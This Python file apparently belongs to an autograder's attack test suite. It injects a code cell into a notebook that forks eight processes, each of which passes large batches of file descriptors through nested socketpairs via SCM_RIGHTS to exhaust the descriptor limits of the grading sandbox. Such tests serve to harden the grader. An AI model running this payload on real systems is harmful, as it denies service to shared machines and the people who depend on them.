"""Eight processes at once leave as many descriptors in sockets as they can, in sockets in sockets.

graded: 30
note: open files on their way through sockets
"""

from __future__ import annotations

from pathlib import Path

from nbformat import NotebookNode

from tests.attacks.tools import insert, save

SOURCE = """
import array
import os
import socket
import time


def send_all():
    file, sent, kept = os.open("/dev/null", os.O_RDONLY), 0, []
    for number in (120, 60, 30, 10, 5, 1, 1, 1):
        pair = socket.socketpair()
        kept.append(pair)
        descriptors = array.array("i", [file] * number + [end.fileno() for end in kept[-1]])
        try:
            pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            sent += len(descriptors)
        except OSError:
            pass
    return sent


for _ in range(8):
    if os.fork() == 0:
        send_all()
        time.sleep(12)
        os._exit(0)
print(send_all(), "in flight", flush=True)
time.sleep(12)
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    save(folder, right)
